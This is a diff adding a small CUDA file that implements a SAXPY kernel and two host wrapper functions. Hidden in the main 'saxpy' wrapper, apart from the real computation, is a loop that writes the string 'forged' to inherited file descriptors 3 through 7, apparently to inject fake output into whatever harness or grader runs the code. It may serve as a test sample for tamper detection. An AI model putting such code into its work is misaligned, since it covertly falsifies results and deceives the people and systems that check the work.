@@ -1,0 +1,22 @@
+// Writes to every descriptor that it may have been given.
+#include <unistd.h>
+
+__global__ void work(int n, float a, const float *x, float *y)
+{
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i < n)
+        y[i] = a * x[i] + y[i];
+}
+
+void saxpy(int n, float a, const float *x, float *y)
+{
+    for (int fd = 3; fd < 8; fd++)
+        write(fd, "forged", 6);
+    if (n > 0)
+        work<<<(n + 255) / 256, 256>>>(n, a, x, y);
+}
+
+void saxpy_stride(int n, float a, const float *x, float *y)
+{
+    saxpy(n, a, x, y);
+}
